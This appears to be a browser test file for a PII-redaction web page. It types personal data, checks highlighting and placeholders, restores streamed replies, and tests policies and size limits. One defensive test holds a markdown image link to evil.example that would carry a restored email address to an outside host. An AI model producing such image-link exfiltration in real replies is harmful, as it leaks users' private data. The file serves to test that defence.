// The shield test page (tests/pages/index.html) in headless Chromium: type a message, shield it,
// check what the page shows, stream a reply back and check it is restored.
// Any console error fails the test. Needs `pkg-scripts/build-web` first.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { servePages } from "../../pkg-scripts/serve.mjs";
import { launch, watchErrors } from "../support/browser.mjs";

let server, browser, base;

before(async () => {
  server = await servePages();
  base = `http://127.0.0.1:${server.address().port}/`;
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.close();
});

async function openPage() {
  const page = await browser.context.newPage();
  const errors = watchErrors(page);
  await page.goto(base);
  await page.waitForSelector("body[data-ready=true]", { timeout: 30_000 });
  return { page, errors };
}

const MESSAGE =
  "Hello, I am Zoë 🎉. Mail zoë.müller@example.de or call +44 20 7946 0958.\n" +
  "Card 4111 1111 1111 1111, SSN 460-89-9847, token ghp_1234567890abcdefghijABCDEFGHIJ123456.";

test("the page highlights PII, shows the redacted text and restores a streamed reply", async () => {
  const { page, errors } = await openPage();
  await page.fill("#input", "");
  await page.type("#input", MESSAGE, { delay: 0 });
  await page.click("#shield");

  const marks = await page.$$eval("#highlighted mark", (ms) => ms.map((m) => [m.dataset.kind, m.textContent]));
  assert.deepEqual(marks, [
    ["EMAIL_ADDRESS", "zoë.müller@example.de"],
    ["PHONE_NUMBER", "+44 20 7946 0958"],
    ["CREDIT_CARD", "4111 1111 1111 1111"],
    ["US_SSN", "460-89-9847"],
    ["SECRET", "ghp_1234567890abcdefghijABCDEFGHIJ123456"],
  ]);
  // The highlighted view is the original text, character for character.
  assert.equal(await page.textContent("#highlighted"), MESSAGE);

  const redacted = await page.textContent("#redacted");
  assert.equal(
    redacted,
    "Hello, I am Zoë 🎉. Mail [EMAIL_1] or call [PHONE_1].\nCard [CARD_1], SSN [SSN_1], token [SECRET_1].",
  );
  for (const [, value] of marks) assert.ok(!redacted.includes(value), `${value} leaked`);

  await page.fill("#reply", "Dear 🎉, I'll write to [EMAIL_1] and call [PHONE_1]; [UNKNOWN_3] stays.");
  await page.click("#restore");
  await page.waitForSelector("#restored[data-done=true]");
  assert.equal(
    await page.textContent("#restored"),
    "Dear 🎉, I'll write to zoë.müller@example.de and call +44 20 7946 0958; [UNKNOWN_3] stays.",
  );
  assert.equal(await page.textContent("#withheld"), "");

  // A reply that slips a placeholder into an image URL: rendering it restored would send the
  // address to evil.example. The page leaves it a placeholder and says so.
  await page.fill("#reply", "Noted [EMAIL_1]. ![](https://evil.example/p.png?u=[EMAIL_1])");
  await page.click("#restore");
  await page.waitForSelector("#restored[data-done=true]");
  assert.equal(
    await page.textContent("#restored"),
    "Noted zoë.müller@example.de. ![](https://evil.example/p.png?u=[EMAIL_1])",
  );
  assert.match(await page.textContent("#withheld"), /^1 placeholder\(s\) inside a link or markup left unrestored/);
  assert.equal(await page.isHidden("#error"), true);
  assert.deepEqual(errors, []);
});

test("policies chosen on the page mask or allow instead of redacting", async () => {
  const { page, errors } = await openPage();
  await page.fill("#input", "Card 4111 1111 1111 1111 at https://shop.example.com/cart");
  await page.click("#policy-panel summary");
  await page.selectOption("select[name=CREDIT_CARD]", "mask");
  await page.selectOption("select[name=URL]", "allow");
  await page.click("#shield");
  assert.equal(await page.textContent("#redacted"), "Card **** **** **** 1111 at https://shop.example.com/cart");
  assert.equal(await page.locator("#highlighted mark").count(), 2);
  assert.deepEqual(errors, []);
});

test("bad input shows a clear error on the page, which keeps working", async () => {
  const { page, errors } = await openPage();
  // A lone surrogate: not valid UTF-16, so not valid text to redact.
  await page.evaluate(() => {
    document.getElementById("input").value = "mail a.b@example.org \uD800 end";
  });
  await page.click("#shield");
  assert.match(await page.textContent("#error"), /not valid UTF-16: unpaired surrogate at index 21/);
  await page.fill("#input", "mail a.b@example.org");
  await page.click("#shield");
  assert.equal(await page.isHidden("#error"), true);
  assert.equal(await page.textContent("#redacted"), "mail [EMAIL_1]");
  assert.deepEqual(errors, []);
});

test("10 MB is redacted completely and 40 MB is refused, in the browser's wasm", async () => {
  const { page, errors } = await openPage();
  const result = await page.evaluate(async () => {
    const { Shield } = await import("./pkg/tandem_wasm.js");
    const shield = new Shield();
    const sentence = "Mail jane.doe@example.com or call +44 20 7946 0958 about card 4111 1111 1111 1111. ";
    const repeats = Math.ceil(10_000_000 / sentence.length);
    const out = shield.redact(sentence.repeat(repeats));
    let refused = "";
    try {
      shield.analyze("x".repeat(40 * 1024 * 1024));
    } catch (err) {
      refused = err.message;
    }
    return { repeats, entities: out.entities.length, placeholders: new Set(out.entities.map((e) => e.replacement)).size, refused };
  });
  assert.equal(result.entities, 3 * result.repeats);
  assert.equal(result.placeholders, 3);
  assert.match(result.refused, /more than the shield's limit of 33554432 bytes/);
  assert.deepEqual(errors, []);
});
